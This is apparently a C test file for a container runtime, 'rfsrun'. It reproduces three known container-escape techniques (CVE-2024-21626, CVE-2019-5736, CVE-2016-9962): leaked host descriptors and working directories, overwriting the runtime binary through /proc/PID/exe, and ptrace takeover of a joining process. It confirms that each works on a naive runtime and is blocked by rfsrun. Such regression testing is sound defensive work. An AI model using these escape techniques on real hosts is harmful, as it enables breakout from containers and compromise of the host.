/* What a runtime's own process gives away while it sets up a container: rfsrun, and a naive one.
 * The descriptors of the container's first process, its working directory, and the program that made it.
 * SPDX-License-Identifier: MIT OR Apache-2.0
 */
#include "attack.h"
#include "bundle.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void write_spec(json_object *spec)
{
    make_file(in_work("bundle/config.json"), json_object_to_json_string(spec));
    json_object_put(spec);
}

static pid_t start_rfsrun(void)
{
    pid_t pid = fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
        int output = open(in_work("output"), O_WRONLY | O_CREAT | O_TRUNC, 0600);
        dup2(output, STDOUT_FILENO);
        dup2(output, STDERR_FILENO);
        execl(getenv("RFSRUN"), "rfsrun", bundle(), (char *)NULL);
        _exit(99);
    }
    return pid;
}

static int status_of(pid_t pid)
{
    int status;
    REQUIRE(waitpid(pid, &status, 0) == pid);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

static char *output(void) { return read_all(AT_FDCWD, in_work("output")); }

static json_object *spec_with(const char *script)
{
    json_object *spec = default_spec("runc");
    json_object_object_del(json_object_object_get(spec, "process"), "args");
    spec_add(spec, "process.args", "'/bin/busybox'");
    spec_add(spec, "process.args", "'sh'");
    spec_add(spec, "process.args", "'-c'");
    spec_add(spec, "process.args", "'%s'", script);
    return spec;
}

/* ---- CVE-2024-21626: descriptors and the working directory ---- */

static void descriptors(void)
{
    make_image();
    make_file(in_work("secret"), "the host's secret");
    /* Naive: what was open stays open, and its directory leads out. */
    int fd = open(work, O_PATH | O_DIRECTORY); /* not close-on-exec */
    REQUIRE(fd >= 0);
    pid_t pid = fork();
    if (pid == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        _exit(chroot(in_work("bundle/rootfs")) != 0 || fchdir(fd) != 0 || access("secret", F_OK) != 0);
    }
    CHECK_THAT(status_of(pid) == 0, "the descriptor does not lead out of the naive container");
    write_spec(spec_with("ls -l /proc/self/fd; echo; pwd -P"));
    CHECK(status_of(start_rfsrun()) == 0);
    char *text = output();
    for (int i = 3; i < 64; i++) {
        char link[64];
        snprintf(link, sizeof link, " %d -> ", i);
        char *line = strstr(text, link); /* ls itself has its directory open */
        CHECK_THAT(!line || strncmp(line + strlen(link), "/proc/", 6) == 0, "descriptor %d is open: %s", i, text);
    }
    CHECK_THAT(strstr(text, "\n\n/\n"), "the working directory: %s", text);
    CHECK_THAT(!strstr(text, "secret"), "%s", text);
    free(text);
    note("attack | CVE-2024-21626 | a descriptor of the host is left open | escapes | contained");
}

static void cwd_by_descriptor(void)
{
    make_image();
    json_object *spec = spec_with("cat ../../../secret");
    spec_set(spec, "process.cwd", "'/proc/self/fd/7'");
    int fd = open(work, O_PATH | O_DIRECTORY);
    REQUIRE(fd >= 0 && dup2(fd, 7) == 7);
    pid_t pid = fork();
    if (pid == 0)
        _exit(chroot(in_work("bundle/rootfs")) != 0 || chdir("/") != 0 || fchdir(7) != 0
              || access("bundle/rootfs", F_OK) != 0);
    CHECK(status_of(pid) == 0);
    write_spec(spec);
    int status = status_of(start_rfsrun());
    char *text = output();
    CHECK_THAT(status == 125, "%d: %s", status, text);
    free(text);
    note("attack | CVE-2024-21626 | the working directory is a descriptor of the host | escapes | refused");
}

/* ---- CVE-2019-5736: the runtime's program ---- */

static pid_t child_of(pid_t parent)
{
    char path[64];
    pid_t child = 0;
    snprintf(path, sizeof path, "/proc/%d/task/%d/children", parent, parent);
    for (int i = 0; i < 500 && child == 0; i++) {
        FILE *file = fopen(path, "re");
        if (file && fscanf(file, "%d", &child) != 1)
            child = 0;
        if (file)
            fclose(file);
        usleep(10000);
    }
    return child;
}

/* Once the program has ended, by the descriptor of its /proc/PID/exe. */
static bool can_overwrite(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    REQUIRE_THAT(fd >= 0, "%s: %s", path, strerror(errno));
    kill(pid, SIGKILL);
    while (kill(pid, 0) == 0 && waitpid(-1, NULL, WNOHANG) <= 0)
        usleep(1000);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = -1;
    for (int i = 0; i < 200 && again < 0; i++) {
        again = open(path, O_WRONLY | O_CLOEXEC);
        usleep(1000);
    }
    bool written = again >= 0 && write(again, "#!", 2) == 2;
    close(again);
    close(fd);
    return written;
}

static void program(void)
{
    make_image();
    pid_t pid = fork();
    if (pid == 0) {
        execl(image("bin/busybox"), "sleep", "60", (char *)NULL);
        _exit(1);
    }
    usleep(200000);
    CHECK_THAT(can_overwrite(pid), "the naive runtime's program can't be overwritten");
    json_object *spec = spec_with("true");
    spec_set(spec, "hooks", "{'prestart': [{'path': '/bin/sleep', 'args': ['sleep', '5']}]}");
    write_spec(spec);
    pid = start_rfsrun();
    pid_t child = child_of(pid);
    REQUIRE_THAT(child > 0, "%s", output());
    CHECK_THAT(!can_overwrite(child), "rfsrun can be overwritten");
    kill(pid, SIGKILL);
    note("attack | CVE-2019-5736 | the runtime is overwritten through /proc/PID/exe | escapes | refused");
}

/* ---- CVE-2016-9962: a process that joins a container ---- */

static bool can_take_over(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    close(fd);
    if (fd >= 0 || ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)
        return true;
    return false;
}

/* The root of a container's user and pid namespaces, which looks for a process that comes. Prints what it could do. */
static int holder(void *data)
{
    const int *told = data;
    char byte = 'n';
    if (read(told[0], &byte, 1) != 1 || setresgid(0, 0, 0) != 0 || setresuid(0, 0, 0) != 0 ||
        mount("proc", "/proc", "proc", 0, NULL) != 0)
        _exit(2);
    if (write(told[3], "r", 1) != 1)
        _exit(2);
    /* The first process that comes is tried from its first moment on, until it waits for good. */
    byte = 'n';
    for (int i = 0, tries = 0; i < 2000000 && byte == 'n' && tries < 20000; i++)
        for (pid_t pid = 2; pid < 5 && byte == 'n'; pid++)
            if (kill(pid, 0) == 0) {
                tries++;
                byte = can_take_over(pid) ? 'y' : 'n';
            }
    if (write(told[3], &byte, 1) == 1)
        pause(); /* its end would be that of all in the namespace */
    _exit(2);
}

static char stack[65536];

struct held {
    pid_t pid;
    int answers;
};

static struct held hold(void)
{
    int pipes[4];
    char path[64], byte;
    REQUIRE(pipe2(pipes, O_CLOEXEC) == 0 && pipe2(pipes + 2, O_CLOEXEC) == 0);
    pid_t pid = clone(holder, stack + sizeof stack, CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNS | SIGCHLD, pipes);
    REQUIRE(pid > 0);
    static const char *const files[] = {"uid_map", "gid_map"};
    for (size_t i = 0; i < COUNT(files); i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        REQUIRE(write(fd, "0 100000 65536", 14) == 14);
        close(fd);
    }
    REQUIRE(write(pipes[1], "g", 1) == 1 && read(pipes[2], &byte, 1) == 1);
    close(pipes[3]);
    return (struct held){pid, pipes[2]};
}

static bool was_taken_over(const struct held *held)
{
    char byte = '?';
    CHECK(read(held->answers, &byte, 1) == 1);
    close(held->answers);
    return byte == 'y';
}

static void join(const struct held *held, const char *name)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/%s", held->pid, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || setns(fd, 0) != 0)
        _exit(1);
}

static void joining(void)
{
    make_image();
    struct held held = hold();
    pid_t pid = fork();
    if (pid == 0) { /* naive */
        join(&held, "pid");
        join(&held, "user");
        pid = fork();
        if (pid == 0) {
            sleep(2);
            _exit(0);
        }
        _exit(status_of(pid));
    }
    CHECK_THAT(was_taken_over(&held), "the naive runtime can't be taken over");
    kill(pid, SIGKILL);
    kill(held.pid, SIGKILL);

    held = hold();
    json_object *spec = spec_with("true");
    json_object_object_del(json_object_object_get(spec, "linux"), "namespaces");
    spec_add(spec, "linux.namespaces", "{'type': 'mount'}");
    spec_add(spec, "linux.namespaces", "{'type': 'uts'}");
    spec_add(spec, "linux.namespaces", "{'type': 'ipc'}");
    spec_add(spec, "linux.namespaces", "{'type': 'network'}");
    spec_add(spec, "linux.namespaces", "{'type': 'user', 'path': '/proc/%d/ns/user'}", held.pid);
    spec_add(spec, "linux.namespaces", "{'type': 'pid', 'path': '/proc/%d/ns/pid'}", held.pid);
    spec_set(spec, "hooks", "{'prestart': [{'path': '/bin/sleep', 'args': ['sleep', '2']}]}");
    write_spec(spec);
    pid = start_rfsrun();
    CHECK_THAT(!was_taken_over(&held), "rfsrun was taken over");
    int status = status_of(pid);
    char *text = output();
    CHECK_THAT(status == 0, "rfsrun: %d: %s", status, text);
    free(text);
    kill(held.pid, SIGKILL);
    note("attack | CVE-2016-9962 | a process that joins a container is taken over | escapes | refused");
}

int main(void)
{
    static const struct test_case cases[] = {
        {"descriptors of the container's first process", descriptors},
        {"a working directory by a descriptor", cwd_by_descriptor},
        {"the program of the runtime", program},
        {"a process that joins a user and a pid namespace", joining},
    };
    if (!getenv("RFSRUN"))
        return skip_all("rfsrun was not built: json-c is missing");
    return run_cases(cases, COUNT(cases));
}
